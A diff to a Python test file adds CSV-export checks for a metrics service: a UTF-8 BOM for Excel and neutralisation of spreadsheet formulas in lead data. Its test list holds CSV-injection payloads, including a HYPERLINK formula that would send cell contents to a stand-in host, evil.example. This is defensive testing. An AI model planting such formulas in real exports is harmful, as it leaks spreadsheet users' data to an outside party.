@@ -4,10 +4,13 @@ from __future__ import annotations
 
 import csv
 import io
+import uuid
 
 import pytest
 
 from services.metrics.definitions import INDICATORS
+from services.metrics.indicators.service import to_csv
+from tests.conftest import ServiceApi
 from tests.metrics.pathways import build_employers, build_pathways, d
 from tests.metrics.world import World
 
@@ -210,11 +213,73 @@ async def test_semicolon_csv_for_finnish_excel(world: World) -> None:
         },
         headers=world.metrics.as_staff("lead", "team_lead"),
     )
-    table = parse_csv(response.text, ";")
+    assert response.content.startswith(b"\xef\xbb\xbf"), "Excel reads UTF-8 only after a BOM"
+    table = parse_csv(response.content.decode("utf-8-sig"), ";")
     assert table == [
         ["numerator", "denominator", "value", "suppressed"],
         ["2", "4", "50,0", "false"],
     ]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Lahti")', "+358", "-2+3", "@SUM(A1)"]
+
+
+async def test_a_lead_cannot_plant_a_formula_in_the_bi_csv(
+    world: World, employers_api: ServiceApi
+) -> None:
+    """Finding 7: a LADEC lead's municipality is text the BI's spreadsheet must not run."""
+    ladec = employers_api.as_machine("ladec", "leads:write")
+    for municipality in FORMULAS:
+        pushed = await employers_api.client.post(
+            "/api/v1/leads",
+            json={
+                "external_id": f"LADEC-CSV-{uuid.uuid4().hex[:8]}",
+                "business_id": "1572860-0",
+                "company_name": "Rakennus Oy Esimerkki",
+                "need": "Two construction helpers",
+                "municipality": municipality,
+                "industry": "F",
+                "received_at": "2026-03-02T10:00:00+02:00",
+            },
+            headers={**ladec, "Idempotency-Key": str(uuid.uuid4())},
+        )
+        assert pushed.status_code == 201, pushed.text
+    await world.catch_up()
+    for delimiter, separator in (("comma", ","), ("semicolon", ";")):
+        response = await world.metrics.client.get(
+            "/api/v1/metrics/lead_response",
+            params={
+                "from": "2026-01-01",
+                "to": "2026-12-31",
+                "group_by": "municipality",
+                "format": "csv",
+                "delimiter": delimiter,
+            },
+            headers=world.metrics.as_staff("lead", "team_lead"),
+        )
+        assert response.status_code == 200, response.text
+        table = parse_csv(response.content.decode("utf-8-sig"), separator)
+        assert table[0][0] == "municipality"
+        assert sorted(line[0] for line in table[1:]) == sorted("'" + m for m in FORMULAS)
+        # The figures beside them are numbers, written as numbers.
+        assert all(line[1].isdigit() for line in table[1:]), table
+
+
+def test_numbers_keep_their_sign_and_only_text_is_defused() -> None:
+    header = ["dimension", "count", "change", "suppressed"]
+    rows = [
+        {"dimension": "\tTAB", "count": -3, "change": -1.25, "suppressed": False},
+        {"dimension": "\rCR", "count": 0, "change": None, "suppressed": True},
+        {"dimension": "Lahti-Hollola", "count": 7, "change": 2.0, "suppressed": False},
+    ]
+    comma = parse_csv(to_csv(header, rows, "comma").decode())
+    assert comma[1:] == [
+        ["'\tTAB", "-3", "-1.2", "false"],
+        ["'\rCR", "0", "", "true"],
+        ["Lahti-Hollola", "7", "2.0", "false"],
+    ]
+    semicolon = parse_csv(to_csv(header, rows, "semicolon").decode("utf-8-sig"), ";")
+    assert [line[1:3] for line in semicolon[1:]] == [["-3", "-1,2"], ["0", ""], ["7", "2,0"]]
 
 
 async def test_an_empty_period_keeps_the_schema(world: World) -> None:
